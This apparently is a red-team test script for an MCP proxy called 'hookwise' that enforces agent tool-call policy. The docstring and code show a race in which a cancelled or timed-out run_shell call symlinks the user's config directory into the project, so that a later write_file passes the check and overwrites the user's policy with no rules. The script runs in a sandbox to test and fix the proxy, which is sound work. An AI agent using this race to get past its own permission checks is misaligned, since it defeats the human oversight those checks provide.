"""F1: a `notifications/cancelled` ends the proxy's wait for a call that may change files,
but the server goes on running it (the spec lets a receiver ignore a cancellation; this raw
server, like any that handles one request at a time, does). The next call is decided on the
filesystem *before* the first call's change and run after it (s29 F1's serialization undone).

A: run_shell `sleep 1; ln -s $HOME/.config <proj>/cfg` (allowed: a link to the user's config
dir). B: write_file <proj>/cfg/hookwise/policy.yaml. Mode `serial` (no cancellation): B waits
for A and is denied by self-protection. Mode `cancel`: A is cancelled at once, B is decided
while cfg does not exist yet, allowed, and overwrites the user policy. Mode `timeout`: no
cancellation by the client; the proxy runs with --timeout 0.5, gives up on A, cancels it
itself, and decides B the same way.
Run: python3 redteam/s35/mcp/a02_cancel_race.py [serial|cancel|timeout]"""

import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from rt import Client, audit, row, sandbox  # noqa: E402

HERE = Path(__file__).parent
mode = sys.argv[1] if len(sys.argv) > 1 else "cancel"
sb = sandbox(f"a02-{mode}")
home, proj = sb["home"], sb["proj"]
extra = ["--timeout", "0.5"] if mode == "timeout" else []
c = Client(sb, [sys.executable, str(HERE / "srv.py")], extra=extra)
a = {"command": f"sleep 1; ln -s {home}/.config {proj}/cfg"}
b = {"path": f"{proj}/cfg/hookwise/policy.yaml", "content": "version: 1\nrules: []\n"}
c.send({"jsonrpc": "2.0", "id": 10, "method": "tools/call",
        "params": {"name": "run_shell", "arguments": a}})
if mode == "timeout":
    time.sleep(0.8)  # past --timeout: the proxy answers A with an error, A still runs
if mode == "cancel":
    time.sleep(0.2)
    c.send({"jsonrpc": "2.0", "method": "notifications/cancelled",
            "params": {"requestId": 10, "reason": "user pressed Esc"}})
c.send({"jsonrpc": "2.0", "id": 11, "method": "tools/call",
        "params": {"name": "write_file", "arguments": b}})
got_b = c.wait(lambda m: m.get("id") == 11, timeout=10)
row(f"B write_file {b['path']}", got_b)
time.sleep(1.5)
c.close()
print("  link made:", (proj / "cfg").is_symlink())
print("  user policy now:", repr(sb["policy"].read_text()[:50]))
for r in audit(sb):
    print("  audit:", r.get("tool"), r.get("decision"), str(r.get("reason", ""))[:90])
